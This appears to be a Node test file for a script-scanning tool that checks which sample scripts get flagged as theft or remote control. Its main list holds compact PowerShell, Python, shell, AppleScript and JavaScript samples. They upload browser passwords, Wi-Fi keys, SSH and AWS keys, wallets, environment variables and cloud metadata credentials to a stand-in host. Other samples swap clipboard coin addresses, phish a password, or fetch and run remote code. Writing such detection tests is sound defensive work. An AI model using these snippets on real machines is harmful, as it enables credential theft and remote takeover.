import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const found = (name: string, source: string): string | undefined =>
  inspect(Buffer.from(source), { name }).findings.find(({ severity }) => severity !== 'notice')?.id

const HOST = 'https://collect.example/a'
/** Names of files, and scripts that send secrets of their reader, or run what a server says. */
const THEFTS: readonly (readonly [way: string, name: string, source: string])[] = [
  [
    'passwords of a browser, by PowerShell',
    'a.ps1',
    `Compress-Archive "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $o\nInvoke-RestMethod -Uri '${HOST}' -Method Post -InFile $o\n`,
  ],
  [
    'passwords of networks',
    'a.ps1',
    `$w = netsh wlan show profile name="a" key=clear\nInvoke-RestMethod -Uri '${HOST}' -Method Post -Body $w\n`,
  ],
  [
    'documents with secrets',
    'a.ps1',
    `Get-ChildItem $env:USERPROFILE -Recurse -Include *.kdbx,*wallet* | % { Invoke-RestMethod '${HOST}' -Method Post -Body (gc $_) }\n`,
  ],
  [
    'an account of coins on the clipboard',
    'a.ps1',
    `while (1) { if ((Get-Clipboard) -match 'bc1') { Set-Clipboard 'bc1q${'a'.repeat(38)}' }; sleep 1 }\n`,
  ],
  [
    'a password that is asked for',
    'a.ps1',
    `$c = $Host.UI.PromptForCredential('Windows', 'Sign in', "$env:USERNAME", '')\nInvoke-WebRequest '${HOST}' -Method POST -Body @{ p = $c.GetNetworkCredential().Password }\n`,
  ],
  [
    'passwords of a browser, by Python',
    'a.py',
    `import os, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Chrome', 'Login Data')\nrequests.post('${HOST}', data=open(p, 'rb').read())\n`,
  ],
  [
    'keys of accounts',
    'a.py',
    `import glob, ftplib\nfor g in ('~/.ssh/*', '~/.aws/*'):\n    s = ftplib.FTP('a.example'); s.storbinary('STOR a', open(g, 'rb'))\n`,
  ],
  [
    'keys of accounts, by a shell',
    'a.sh',
    `#!/bin/bash\ntar czf /tmp/x.tgz ~/.ssh ~/.aws\ncurl -s -F "f=@/tmp/x.tgz" ${HOST}\n`,
  ],
  ['variables', 'a.sh', `#!/bin/sh\nenv | base64 -w0 | curl -s -X POST -d @- ${HOST}\n`],
  [
    'keys that the cloud gives a computer',
    'a.sh',
    `#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -s -X POST --data-binary @- ${HOST}\n`,
  ],
  [
    'the keychain',
    'a.applescript',
    `on grab(a)\n\tdo shell script "cp " & a & " /tmp/w"\nend grab\ngrab("Library/Keychains/login.keychain-db")\ndo shell script "curl -X POST --data-binary @/tmp/w ${HOST}"\n`,
  ],
  [
    'code that a server answers, by AppleScript',
    'a.applescript',
    `set s to do shell script "curl -L ${HOST}"\nrun script s\n`,
  ],
  [
    'code that a server answers, by JavaScript of a Mac',
    'a.jxa',
    `ObjC.import('Foundation')\nconst d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString('${HOST}'))\n;(0, eval)($.NSString.alloc.initWithDataEncoding(d, 4).js)\n`,
  ],
  [
    'a wallet, by Node',
    'a.js',
    `const fs = require('fs'), axios = require('axios')\nconst d = h + '/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'\nfor (const f of fs.readdirSync(d)) axios.post('${HOST}', fs.createReadStream(f))\n`,
  ],
  [
    'commands that a server sends',
    'a.js',
    `const io = require('socket.io-client'), cp = require('child_process')\nio('${HOST}').on('command', m => { cp.exec(m.cmd, () => 0) })\n`,
  ],
]

suite('a script that sends away, or runs', () => {
  for (const [way, name, source] of THEFTS)
    test(way, () => assert.match(found(name, source) ?? '', /^Docvet\.Script\.(?:RemoteControl|Program|Dropper)$/))
})

suite('a script that only looks like one:', () => {
  const scripts: readonly (readonly [way: string, name: string, source: string])[] = [
    [
      'it backs bookmarks up',
      'a.ps1',
      `Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Bookmarks" H:\\\nInvoke-RestMethod -Uri $env:HOOK -Method Post -Body 'saved'\n`,
    ],
    ['it lists networks', 'a.ps1', 'netsh wlan show profiles | Out-File profiles.txt\n'],
    [
      'it uses a key',
      'a.py',
      `import paramiko, requests, os\nk = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('${HOST}', json={'up': True})\n`,
    ],
    [
      'it backs a home up',
      'a.sh',
      '#!/bin/bash\ntar czf /backup/h.tgz ~/.ssh ~/.gnupg\nrsync -a /backup/ nas:/backup/\n',
    ],
    ['it reports a state', 'a.sh', `#!/bin/sh\ncurl -fsS -X POST -d "{\\"host\\":\\"$(hostname)\\"}" ${HOST}\n`],
    [
      'it asks for a version',
      'a.applescript',
      `set v to do shell script "curl -s ${HOST}"\nif v is not "2.4" then display dialog "New: " & v\n`,
    ],
    [
      'it opens a share',
      'a.applescript',
      'set p to text returned of (display dialog "Password" default answer "" with hidden answer)\nmount volume "smb://fs01/projects" as user name "anna" with password p\n',
    ],
    [
      'it uploads a build',
      'a.js',
      `const fs = require('fs'), axios = require('axios')\naxios.post(process.env.URL, fs.createReadStream('dist/app.zip'))\n`,
    ],
  ]
  for (const [way, name, source] of scripts) test(way, () => assert.equal(found(name, source), undefined))
})
